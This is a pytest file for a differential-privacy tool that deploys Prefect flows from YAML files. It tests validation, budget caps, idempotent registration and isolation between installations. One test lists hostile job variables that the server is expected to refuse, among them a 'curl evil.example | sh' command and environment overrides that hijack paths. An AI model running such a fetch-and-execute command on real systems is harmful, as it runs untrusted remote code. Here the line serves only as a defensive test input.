"""Deployment files: what they may say, what they become, and that registering them twice changes nothing."""

import ast
from importlib import import_module
from pathlib import Path

import pytest

from pubpriv.deployments.budgets import budget_checks
from pubpriv.deployments.examples import EXAMPLES
from pubpriv.deployments.files import read, read_all
from pubpriv.deployments.model import Dataset
from pubpriv.deployments.register import register, server
from pubpriv.deployments.render import _FLOWS, prefect_yaml, render
from pubpriv.errors import InvalidInput
from pubpriv.estimators import ESTIMATORS
from pubpriv.flows.tags import NOBODY
from pubpriv.privacy.budgets import ZeroConcentratedDP
from pubpriv.privacy.ledger import Ledger
from pubpriv.privacy.ledger.period_terms import PeriodTerms

ROOT = Path(__file__).parents[2]

GOOD = """\
dataset: visits
unit: one patient
cap: zcdp:1
private: /data/private.parquet
public: s3://bucket/public.parquet
releases:
  - name: groups
    estimator: mixture
    allotment: zcdp:0.5
    settings: {components: 3}
    schedule: {cron: "15 2 * * *", timezone: Europe/Berlin}
table_changes: true
"""


SCHEDULE = 'schedule: {cron: "15 2 * * *", timezone: Europe/Berlin}'


@pytest.fixture
def file(tmp_path):
    """Writes a file of deployments and returns its path."""

    def write(text: str, name: str = "visits.yaml") -> Path:
        (tmp_path / name).write_text(text)
        return tmp_path / name

    return write


# --- flows and deployments ---------------------------------------------------------------------------------


def flows_of_the_project() -> set[str]:
    """Module paths of every function under `flows/` that `safe_flow` declares."""
    found = set()
    for path in (ROOT / "pubpriv" / "flows").glob("*.py"):
        for node in ast.parse(path.read_text()).body:
            decorators = getattr(node, "decorator_list", [])
            if any(isinstance(each, ast.Call) and getattr(each.func, "id", "") == "safe_flow" for each in decorators):
                found.add(f"pubpriv.flows.{path.stem}.{node.name}")
    return found | {f"pubpriv.flows.estimate.estimate_{estimator.name}" for estimator in ESTIMATORS}


@pytest.mark.long
def test_every_flow_may_be_deployed_and_every_deployment_is_of_a_flow(monkeypatch):
    """Each flow of the project may be deployed, and is found under its name; the examples deploy nothing else."""
    monkeypatch.setenv("PUBPRIV_DATA", "/data")
    monkeypatch.setenv("PUBPRIV_OUTPUT", "/released")
    deployed = {each.entrypoint for each in render(read_all([EXAMPLES]))}
    assert deployed <= flows_of_the_project() == set(_FLOWS.values())
    assert len(deployed) == 4
    for entrypoint in _FLOWS.values():
        module, _, name = entrypoint.rpartition(".")
        assert getattr(import_module(module), name).name == name.replace("_", "-")


def test_prefect_yaml_is_what_the_example_files_render_to():
    """`prefect deploy` and `pubpriv deploy` register the same; the committed file is the output of --dry-run."""
    rendered = prefect_yaml(render(read_all([EXAMPLES], put_in=False)))
    assert (ROOT / "pubpriv" / "deployments" / "prefect.yaml").read_text() == rendered
    assert "{{ $PUBPRIV_DATA }}/rand-people/private.parquet" in rendered


def test_a_form_has_bounds_and_descriptions():
    """What the UI shows of each flow: every field is described, numbers have bounds, choices are lists."""
    from prefect.utilities.callables import parameter_schema

    for entrypoint in _FLOWS.values():
        module, _, name = entrypoint.rpartition(".")
        schema = parameter_schema(getattr(import_module(module), name)).model_dump_for_openapi()
        (form,) = (each for title, each in schema["definitions"].items() if title.endswith("Parameters"))
        assert all(field.get("description") for field in form["properties"].values()), entrypoint
        for title, field in form["properties"].items():
            if field.get("type") == "integer":
                assert {"minimum", "maximum"} <= set(field), (entrypoint, title)


# --- what a file may say -----------------------------------------------------------------------------------


def test_a_good_file_becomes_a_deployment(file):
    """Names, entry point, parameters, period and environment."""
    (each,) = render([read(file(GOOD + "output: /released\nconcurrency: {runs: 2, wait_seconds: 30}\n"))])
    assert each.full_name == "estimate-mixture/visits.groups"
    form = each.parameters["parameters"]
    assert (form["period"], form["series"], form["components"]) == ("day Europe/Berlin", "groups", 3)
    assert (form["ledger"], form["budget"]) == ("PUBPRIV_LEDGER", "zcdp:0.5")
    assert "release_id" not in form
    assert form["skip_if_later_than"] == 23 * 3600  # on one day in March its runs are no further apart
    alive = {"PREFECT_FLOWS_HEARTBEAT_FREQUENCY": "30"}  # what the automation that looks for dead runs counts on
    assert each.env == {"PUBPRIV_SLOT_SECONDS": "30", "PUBPRIV_OUTPUT": "/released"} | alive
    assert (each.dataset, each.slots) == ("visits", 2)


GROWS = GOOD.replace("cap: zcdp:1\n", "cap: zcdp:1\nperiods: day:arrived\nper_period: zcdp:0.5\n")


def test_a_release_of_a_table_that_grows_asks_the_period_that_ended_however_late(file, tmp_path, monkeypatch):
    """Unless it asks all rows; the dataset is registered with its periods, and other ones are told."""
    (each,) = render([read(file(GROWS))])
    form = each.parameters["parameters"]
    assert form["rows_of"] == "day"
    assert "skip_if_later_than" not in form
    (whole,) = render([read(file(GROWS.replace("settings:", "all_rows: true\n    settings:")))])
    assert "rows_of" not in whole.parameters["parameters"]
    assert whole.parameters["parameters"]["skip_if_later_than"] == 23 * 3600
    monkeypatch.setenv("PUBPRIV_LEDGER", f"sqlite:///{tmp_path / 'ledger.db'}")
    here = "s3://bucket/public.parquet", str(tmp_path / "public.parquet")  # what is in a store is looked for there
    budget_checks([read(file(GROWS.replace(*here)))], set_budget=True)
    with Ledger.open(f"sqlite:///{tmp_path / 'ledger.db'}") as ledger:
        assert ledger.periods("visits") == PeriodTerms("day", "arrived", ZeroConcentratedDP("0.5"))
    (checked,) = budget_checks([read(file(GOOD.replace(*here)))])
    assert "the file says no periods, the ledger each day" in checked.finding


BAD = {
    # what is wrong: (text to replace, by what, line, words of the message)
    "unknown field": (
        "unit:",
        "unitt:",
        2,
        "unitt: there is no such field; did you mean 'unit'?",
    ),
    "a field of nothing": (
        "unit:",
        "zebra: 1\nunit:",
        2,
        "zebra: there is no such field; fields here are dataset, unit",
    ),
    "the other word": (
        "unit:",
        "budget: zcdp:1\nunit:",
        2,
        "budget: there is no such field: what all releases may spend",
    ),
    "a setting too high up": ("unit:", "by: ward\nunit:", 2, "by: there is no such field here: it is a setting of a"),
    "unknown field inside": ("timezone:", "time_zone:", 11, "releases[0].schedule.time_zone: there is no such field"),
    "missing field": ("cap: zcdp:1\n", "", None, "cap: this field is missing"),
    "bad budget": ("zcdp:1\n", "zcdp:lots\n", 3, "cap: "),
    "too large an allotment": ("zcdp:0.5", "zcdp:1.5", 9, "the allotment zcdp:1.5 exceeds the cap zcdp:1"),
    "another kind of budget": ("zcdp:1\n", "pure:1\n", 9, "cannot be charged to a pure ledger"),
    "periods without a cap": ("releases:", "periods: day:arrived\nreleases:", None, "takes both periods"),
    "periods of no unit": (
        "releases:",
        "periods: fortnight:arrived\nper_period: zcdp:0.5\nreleases:",
        None,
        "periods are written UNIT:COLUMN",
    ),
    "more than a period has": (
        "releases:",
        "periods: day:arrived\nper_period: zcdp:0.4\nreleases:",
        11,
        "the allotment zcdp:0.5 exceeds the cap of a period, zcdp:0.4",
    ),
    "all rows of no periods": (
        "settings:",
        "all_rows: true\n    settings:",
        None,
        "all_rows is for datasets with periods",
    ),
    "a number for a budget": (
        "cap: zcdp:1\n",
        "cap: 1.0\n",
        3,
        "a valid string; write for example zcdp:1.0",
    ),
    "late and never late": ("settings:", "catchup: true\n    skip_if_later_than: 90\n    settings:", 7, "and not both"),
    "late by hand": (SCHEDULE, "catchup: true", 7, "a schedule"),
    "relative path": ("/data/private", "data/private", 4, "private: a path must begin with / or ~/, or be a URL"),
    "unknown estimator": ("mixture", "median", 8, "estimator: Input should be 'mean', 'gaussian', "),
    "unknown setting": ("components:", "clusters:", 7, "settings of mixture are bound, by, by_values,"),
    "setting out of bounds": ("components: 3", "components: 0", None, "components: Input should be greater than"),
    "bad cron": ("15 2 * * *", "15 2 * *", 11, 'cron: Invalid cron string: "15 2 * *"; write minute, hour'),
    "bad time zone": ("Europe/Berlin", "Europe/Berlim", 11, "there is no time zone 'Europe/Berlim'"),
    "two rules": ('* *"', '* *", interval: 60', 11, "exactly one of cron, interval and rrule"),
    "too often": ('cron: "15 2 * * *"', "interval: 5", 11, "interval: Input should be greater than or equal to 60"),
    "a variable that is not set": ("/data/", "${NOWHERE}/", None, "set NOWHERE"),
    "no YAML": ("releases:", "releases: [", 7, ""),
    "a field twice": ("unit: one patient", "unit: one patient\nunit: one visit", 3, "unit"),
    "a password": ("releases:", "ledger: postgresql://me:secret@host/db\nreleases:", 6, "ledger: write the name of an"),
}


def test_names_may_be_a_text(file):
    """One name, or some with commas between them, as on the command line."""
    dataset = read(file(f"{GOOD}person: nr\ncolumns: age, clip(cost, 0, 9)\n"))
    assert (dataset.person, dataset.columns) == (("nr",), ("age", "clip(cost, 0, 9)"))


@pytest.mark.parametrize("what", BAD)
def test_what_is_wrong_in_a_file_is_told_with_file_line_field_and_what_is_allowed(file, what, monkeypatch):
    """One message for each mistake, and no value that may be a secret in it."""
    monkeypatch.delenv("NOWHERE", raising=False)
    old, new, line, words = BAD[what]
    assert old in GOOD
    path = file(GOOD.replace(old, new, 1))
    with pytest.raises(InvalidInput) as refused:
        read(path)
    told = str(refused.value)
    assert told.startswith(f"{path}")
    assert words in told
    assert line is None or f"line {line}" in told, told
    assert "secret" not in told
    assert told.count(str(path)) == (2 if what == "unknown field" else 1)  # what follows from a mistake is no other


def test_a_dataset_in_two_files_is_refused(file, tmp_path):
    """Two files could disagree about its cap."""
    file(GOOD, "one.yaml")
    file(GOOD, "two.yaml")
    with pytest.raises(InvalidInput, match=r"two\.yaml: dataset visits is in .*one\.yaml too"):
        read_all([tmp_path])


SAME_ROWS = "line 11: releases[0].schedule: release groups has a schedule, and {}"
UNSAID = SAME_ROWS.format("nothing says that the table changes: each run would pay for the same rows again. If rows")


@pytest.mark.parametrize(
    ("private", "declared", "refused"),
    [
        ("/data/private.parquet", "", UNSAID),
        ("/data/private.parquet", "table_changes: false\n", UNSAID),
        ("/data/private.parquet", "table_changes: true\n", None),
        ("/data/private.parquet", "periods: day:arrived\nper_period: zcdp:0.5\n", None),
        ("delta:/data/private", "", None),
        (
            "delta:/data/private@7",
            "table_changes: true\n",
            SAME_ROWS.format("a version of a table never changes: leave @7"),
        ),
        ("delta:data/private", "", "private: a path must begin with / or ~/, or be a URL"),
    ],
)
def test_a_schedule_needs_a_word_of_the_owner_that_the_table_changes(file, private, declared, refused):
    """Or each run pays for the same rows. The table is not there: nothing of it is looked at."""
    path = file(GOOD.replace("/data/private.parquet", private).replace("table_changes: true\n", declared))
    if refused is None:
        assert read(path).releases[0].schedule is not None
        return
    with pytest.raises(InvalidInput) as error:
        read(path)
    assert refused in str(error.value)


def test_a_run_by_hand_needs_no_such_word(file):
    """A person decides about each of its runs."""
    by_hand = GOOD.replace(f"    {SCHEDULE}\n", "").replace("table_changes: true\n", "")
    assert read(file(by_hand)).table_changes is False


def test_two_releases_of_one_name_are_refused(file):
    """Their release ids would be the same; the line is that of the second."""
    with pytest.raises(InvalidInput, match=r"line 12: .*a name of its own"):
        read(file(GOOD.replace("table_changes: true\n", "") + GOOD.partition("releases:\n")[2]))


def test_an_empty_folder_and_a_file_that_is_not_there_are_told(tmp_path):
    """Neither is taken for nothing to do, which would prune everything."""
    with pytest.raises(InvalidInput, match=r"no \.yaml or \.yml file"):
        read_all([tmp_path])
    with pytest.raises(InvalidInput, match="there is no such file: check the path"):
        read_all([tmp_path / "none.yaml"])


# --- on a server -------------------------------------------------------------------------------------------


@pytest.mark.prefect
def test_registering_is_idempotent_and_tells_what_changes(prefect_server, file):
    """Created, then unchanged; a changed setting, schedule or slot is told; a paused deployment stays paused."""

    def registered(text: str, **options) -> dict[str, tuple[str, str]]:
        with server() as client:
            outcomes = register(client, render([read(file(text))]), **options)
        return {each.what.removesuffix("used up'"): (each.result, each.detail) for each in outcomes}

    deployment, slot = "deployment estimate-mixture/visits.groups", "slot private-visits"
    text = GOOD.replace("s3://bucket", "/data")
    assert registered(text, dry_run=True)[deployment][0] == "created"
    first = registered(text)
    assert (first[deployment][0], first[slot][0]) == ("created", "created")
    again = registered(text)
    mine = {name: result for name, (result, _) in again.items() if "visits" in name or "pool" in name}
    assert set(mine.values()) == {"unchanged"}
    with server() as client:
        known = client.read_deployment_by_name("estimate-mixture/visits.groups")
        client.pause_deployment(known.id)
    changed = registered(text.replace("components: 3", "components: 4").replace("15 2", "30 2"))
    result, told = changed[deployment]
    assert result == "changed"
    for part in ("parameters.parameters.components: 3 -> 4", '"15 2 * * *" -> "30 2 * * *"', "it is paused"):
        assert part in told
    with server() as client:
        after = client.read_deployment_by_name("estimate-mixture/visits.groups")
    assert (after.id, after.paused) == (known.id, True)
    assert after.parameters["parameters"]["components"] == 4
    assert [each.schedule.cron for each in after.schedules] == ["30 2 * * *"]
    assert registered(text + "concurrency: {runs: 2}\n")[slot] == ("changed", "limit: 1 -> 2")
    renamed = text.replace("name: groups", "name: clusters")
    other = text.replace("dataset: visits", "dataset: others")
    assert "deployment visits.groups" not in registered(other)  # a file of another dataset has no say
    assert registered(other, whole=True, dry_run=True)["deployment visits.groups"][0] == "in no file"
    assert registered(renamed)["deployment visits.groups"][0] == "in no file"
    assert registered(renamed, prune=True)["deployment visits.groups"][0] == "removed"
    assert "deployment visits.groups" not in registered(renamed)


@pytest.mark.prefect
def test_deploying_again_keeps_what_others_did_on_the_server(prefect_server, file):
    """A schedule that a person paused stays so, and tags stay; the file can switch a schedule off and on."""
    from prefect.client.schemas.actions import DeploymentUpdate

    text = GOOD.replace("s3://bucket", "/data").replace("dataset: visits", "dataset: kept")

    def deployed(changed: str, **options):
        with server() as client:
            outcomes = register(client, render([read(file(changed))]), **options)
            after = client.read_deployment_by_name("estimate-mixture/kept.groups")
        return after, next(each for each in outcomes if each.what.startswith("deployment"))

    first, _ = deployed(text)
    with server() as client:
        client.update_deployment_schedule(first.id, first.schedules[0].id, active=False)
        added = {"env": first.job_variables["env"] | {"PYTHONPATH": "/tmp"}}
        client.update_deployment(first.id, DeploymentUpdate(tags=[*first.tags, "on-call"], job_variables=added))
    planned, plan = deployed(text.replace("15 2", "45 2"), dry_run=True)
    assert planned.schedules[0].schedule.cron == "15 2 * * *"
    assert '"15 2 * * *" -> "45 2 * * *"' in plan.detail
    after, told = deployed(text.replace("15 2", "45 2"))
    assert (after.schedules[0].schedule.cron, after.schedules[0].active) == ("45 2 * * *", False)
    assert "its schedule is paused on the server" in told.detail
    assert "on-call" in after.tags
    assert after.job_variables == first.job_variables  # a pool of ours takes no environment that no file names
    off, on = (deployed(text.replace("cron:", f"active: {active}, cron:"))[0] for active in ("false", "true"))
    assert (off.schedules[0].active, on.schedules[0].active) == (False, True)


@pytest.mark.prefect
def test_two_installations_on_one_server_leave_each_other_alone(prefect_server, file):
    """`a-b`/`c` is not `a`/`b-c`; pruning takes one's own with its slot; another's dataset is refused, untouched."""
    from prefect.exceptions import ObjectNotFound

    text = GOOD.replace("s3://bucket", "/data") + "pool: shared\noutput: /one\n"
    one = text.replace("visits", "a-b").replace("name: groups", "name: c")
    two = text.replace("visits", "a").replace("name: groups", "name: b-c").replace("/one", "/two")
    with server() as client:
        register(client, render([read(file(one))]), installation="north")
        register(client, render([read(file(two))]), installation="south", whole=True)
        theirs = client.read_deployment_by_name("estimate-mixture/a-b.c")
        register(client, render([read(file(two))]), installation="south", whole=True, prune=True)
        assert client.read_deployment_by_name("estimate-mixture/a-b.c") == theirs
        client.create_flow_run_from_deployment(theirs.id, job_variables=theirs.job_variables)  # still allowed
        with pytest.raises(InvalidInput, match="a-b is deployed on this server by the installation 'north'"):
            register(client, render([read(file(one.replace("3}", "4}")))]), installation="south")
        gone = register(client, render([read(file(one.replace("a-b", "other")))]), True, True, installation="north")
        assert ("slot private-a-b", "removed") in {(each.what, each.result) for each in gone}
        with pytest.raises(ObjectNotFound):
            client.read_global_concurrency_limit_by_name("private-a-b")
        assert client.read_deployment_by_name("estimate-mixture/a.b-c").parameters["parameters"]["dataset"] == "a"
        adopted = one.replace("a-b", "adopted")
        for installation in (NOBODY, "north"):
            register(client, render([read(file(adopted))]), installation=installation)
        tags = client.read_deployment_by_name("estimate-mixture/adopted.c").tags
        assert [tag for tag in tags if tag.startswith("pubpriv-of-")] == ["pubpriv-of-north"]


@pytest.mark.prefect
def test_the_server_refuses_a_bad_parameter_and_says_which(prefect_server, file):
    """A number of components beyond the bound is refused when the run is asked for, before a worker sees it."""
    import httpx
    from prefect.exceptions import PrefectHTTPStatusError

    with server() as client:
        register(client, render([read(file(GOOD.replace("s3://bucket", "/data")))]))
        known = client.read_deployment_by_name("estimate-mixture/visits.groups")
        form = {"parameters": known.parameters["parameters"] | {"components": 0}}
        with pytest.raises((PrefectHTTPStatusError, httpx.HTTPStatusError)) as refused:
            client.create_flow_run_from_deployment(known.id, parameters=form)
    assert refused.value.response.status_code == 409
    assert "parameters.components" in refused.value.response.text
    assert "minimum" in refused.value.response.text


@pytest.mark.prefect
def test_a_run_cannot_bring_commands_or_an_environment(prefect_server, file):
    """Job variables that would run code, or name another ledger, folder or list, are refused by the pool."""
    import httpx
    from prefect.exceptions import PrefectHTTPStatusError
    from prefect.workers.process import ProcessJobConfiguration

    text = GOOD.replace("s3://bucket", "/data") + "pool: closed\noutput: /released\n"
    text = text.replace("dataset: visits", "dataset: ward")
    other = text.replace("dataset: ward", "dataset: clinic").replace("/released", "/elsewhere")
    hostile = (
        {"command": "curl evil.example | sh"},
        {"working_dir": "/tmp"},
        {"env": {"PUBPRIV_LEDGER": "sqlite:////tmp/mine.db"}},
        {"env": {"PUBPRIV_ALLOW": "/tmp"}},
        {"env": {"PUBPRIV_OUTPUT": "/srv/tables"}},
        {"env": {"PYTHONPATH": "/tmp"}},
    )
    with server() as client:
        register(client, render([read(file(text))]))
        register(client, render([read(file(other, "others.yaml"))]))  # what the first may have it keeps
        for name, output in (("ward", "/released"), ("clinic", "/elsewhere")):
            known = client.read_deployment_by_name(f"estimate-mixture/{name}.groups")
            assert client.create_flow_run_from_deployment(known.id).deployment_id == known.id
            assert known.job_variables["env"]["PUBPRIV_OUTPUT"] == output
            for variables in hostile:
                with pytest.raises((PrefectHTTPStatusError, httpx.HTTPStatusError)) as refused:
                    client.create_flow_run_from_deployment(known.id, job_variables=variables)
                assert refused.value.response.status_code == 422
        pool = client.read_work_pool("closed")
        template = pool.base_job_template
        only_other = render([read(file(other, "others.yaml"))])
        assert register(client, only_other)[0].result == "unchanged"
        # the first goes on where the files are all there are, and loses its environment only with itself
        assert register(client, only_other, whole=True, dry_run=True)[0].result == "unchanged"
        assert register(client, only_other, whole=True, prune=True, dry_run=True)[0].result == "changed"
    import asyncio

    made = ProcessJobConfiguration.from_template_and_values(template, hostile[0] | known.job_variables)
    made = asyncio.run(made) if asyncio.iscoroutine(made) else made
    assert made.command is None
    assert made.env["PUBPRIV_OUTPUT"] == "/elsewhere"


def test_no_server_is_an_error_with_a_way_out(monkeypatch):
    """`pubpriv deploy` names the variable to set, and never writes to a database of its own."""
    from prefect.settings import PREFECT_API_URL, temporary_settings

    from pubpriv.errors import Unavailable

    for url, words in ((None, "no Prefect server is named"), ("http://127.0.0.1:9/api", "does not answer")):
        with temporary_settings({PREFECT_API_URL: url}), pytest.raises(Unavailable, match=words), server():
            pass


@pytest.mark.parametrize("value", ["true", "1", "True", "on"])
def test_serve_refuses_debug_mode(monkeypatch, value):
    """Prefect would write what every task returns to its log table; nothing is started."""
    from pubpriv.deployments import serving

    monkeypatch.setenv("PREFECT_DEBUG_MODE", value)
    with pytest.raises(InvalidInput, match="PREFECT_DEBUG_MODE is on"):
        serving.check(0)
    monkeypatch.setenv("PREFECT_DEBUG_MODE", "false")
    serving.check(0)


def test_serve_takes_nobody_elses_server_or_database(tmp_path):
    """What the environment says of another Prefect is left behind; loopback, offline and strict is what stays."""
    from pubpriv.deployments import serving

    others = {
        "PREFECT_SERVER_DATABASE_CONNECTION_URL": "postgresql+asyncpg://production/prefect",
        "PREFECT_API_KEY": "key",
        "PREFECT_PROFILE": "cloud",
        "PREFECT_LOGGING_LEVEL": "WARNING",
        "PATH": "/bin",
    }
    told = serving.clean(others) | serving.settings(tmp_path, 4200, "sqlite:///ledger.db", tmp_path / "released")
    assert not {"PREFECT_SERVER_DATABASE_CONNECTION_URL", "PREFECT_API_KEY", "PREFECT_PROFILE"} & set(told)
    assert (told["PATH"], told["PREFECT_LOGGING_LEVEL"]) == ("/bin", "WARNING")
    assert told["PREFECT_API_URL"] == "http://127.0.0.1:4200/api"
    off = ("ANALYTICS_ENABLED", "UI_V2_ENABLED", "UI_SHOW_PROMOTIONAL_CONTENT", "ALLOW_EPHEMERAL_MODE")
    assert {told[f"PREFECT_SERVER_{name}"] for name in off} == {"false"}
    assert told["DO_NOT_TRACK"] == "1"


def test_a_dataset_is_told_by_its_fields():
    """The docstring of the model names every field that a file may have."""
    assert all(name in (Dataset.__doc__ or "") for name in Dataset.model_fields)
